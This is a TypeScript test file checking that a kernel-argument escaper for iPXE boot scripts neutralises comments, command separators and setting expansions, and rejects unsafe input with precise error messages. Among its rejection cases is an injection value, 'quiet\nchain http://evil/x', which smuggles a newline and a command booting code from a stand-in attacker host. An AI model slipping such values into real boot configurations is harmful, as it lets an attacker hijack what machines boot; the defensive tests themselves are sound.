import { describe, expect, it } from 'vitest';
import { escapeKernelArg } from '../../src/ipxe/escape.js';
import { RenderError } from '../../src/errors.js';

const context = { device: 'web-1', source: 'devices.web-1.kernel_args' };

describe('kernel arguments are data, not script', () => {
  it.each([
    ['a plain argument passes unchanged', 'ip=dhcp', 'ip=dhcp'],
    ['a token starting with # is not a comment', '#nomodeset', '${metalboot-lit}#nomodeset'],
    ['a bare ; does not end the command', ';', '${metalboot-lit};'],
    ['a bare && does not chain a command', '&&', '${metalboot-lit}&&'],
    ['a bare || does not chain a command', '||', '${metalboot-lit}||'],
    ['# inside an argument is left alone', 'a#b', 'a#b'],
    ['a lone $ is literal', 'x=$5', 'x=$5'],
    ['an unclosed ${ is literal', 'x=${y', 'x=${y'],
    ['a quoted value keeps its single spaces', 'opt="a b"', 'opt="a b"'],
    ['each piece of a quoted value is escaped', 'opt="x # y"', 'opt="x ${metalboot-lit}# y"'],
  ])('%s', (_title, input, output) => {
    expect(escapeKernelArg(input, context)).toBe(output);
  });

  it.each([
    ['${…}', 'root=${root}', 'it holds "${…}", which iPXE always expands as a setting (there is no escape for it)'],
    ['a newline', 'quiet\nchain http://evil/x', 'it holds a newline, tab or other control character'],
    ['a NUL byte', 'a\u0000b', 'it holds a newline, tab or other control character'],
    ['an unquoted space', 'quiet && reboot', 'it holds a space outside a quoted value; the kernel would see two arguments (quote the value: key="a b")'],
    ['repeated spaces', 'opt="a  b"', 'it holds leading, trailing or repeated spaces, which iPXE collapses'],
    ['an unbalanced quote', 'opt="a', 'it holds an unbalanced double quote, which would swallow the following arguments'],
  ])('rejects %s with an error naming the device and the argument', (_what, input, why) => {
    let caught: unknown;
    try {
      escapeKernelArg(input, context);
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(RenderError);
    expect((caught as Error).message).toBe(
      `device "web-1": kernel argument ${JSON.stringify(input)} (from devices.web-1.kernel_args) cannot be put in an iPXE script: ${why}`,
    );
  });
});
